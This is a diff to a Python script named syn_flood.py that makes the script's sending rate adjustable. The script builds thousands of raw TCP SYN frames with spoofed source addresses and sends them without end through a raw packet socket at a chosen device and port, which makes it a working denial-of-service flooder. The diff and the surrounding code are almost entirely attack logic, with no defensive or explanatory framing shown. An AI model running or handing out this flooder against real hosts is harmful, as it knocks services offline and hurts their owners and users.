@@ -1,6 +1,5 @@
-"""SYNs into a device, as fast as one process can: syn_flood.py DEVICE MAC FROM TO PORT. FROM is a network's first three
-bytes: half of the SYNs come from addresses in it that nobody has, half from .1, whose kernel knows nothing of them.
-Prints how many were sent, every second."""
+"""SYNs into a device: syn_flood.py DEVICE MAC FROM TO PORT RATE, so many per second. FROM is a network's first three bytes: half of the
+SYNs come from addresses in it that nobody has, half from .1, whose kernel knows nothing of them. Prints how many were sent, every second."""
 
 import random
 import socket
@@ -27,21 +26,26 @@ def syn(mac, source, target, port, prng):
 
 
 def main():
-    device, mac, network, target, port = sys.argv[1:6]
+    device, mac, network, target, port, rate = sys.argv[1:7]
     prng = random.Random(1)
     frames = [syn(mac, "%s.%d" % (network, prng.randrange(3, 255) if n % 2 else 1), target, int(port), prng) for n in range(20000)]
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((device, 0))
-    sent, said = 0, time.monotonic()
+    sent, tried, said = 0, 0, time.monotonic()
+    began = said
     while True:
         for frame in frames:
+            tried += 1
             try:
                 sent += s.send(frame) > 0
             except OSError:  # the device's queue is full
                 time.sleep(0.0005)
-            if sent % 1000 == 0 and time.monotonic() - said > 1:
-                said = time.monotonic()
-                print(sent, flush=True)
+            if tried % 50 == 0:
+                now = time.monotonic()
+                time.sleep(max(0, began + tried / int(rate) - now))
+                if now - said > 1:
+                    said = now
+                    print(sent, flush=True)
 
 
 main()
